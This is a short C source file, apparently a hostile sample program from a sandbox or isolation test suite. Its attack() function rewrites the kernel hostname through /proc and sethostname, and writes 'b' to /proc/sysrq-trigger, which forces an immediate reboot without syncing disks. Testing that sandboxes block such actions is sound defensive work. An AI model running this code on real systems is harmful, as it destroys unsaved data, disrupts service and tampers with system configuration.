/* Changes settings of the kernel. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>
#include "hostile.h"

static void attack(unsigned char choice) {
    (void)choice;
    int file = open("/proc/sys/kernel/hostname", O_WRONLY);
    (void)!write(file, "hostile", 7);
    file = open("/proc/sysrq-trigger", O_WRONLY);
    (void)!write(file, "b", 1);
    sethostname("hostile", 7);
}
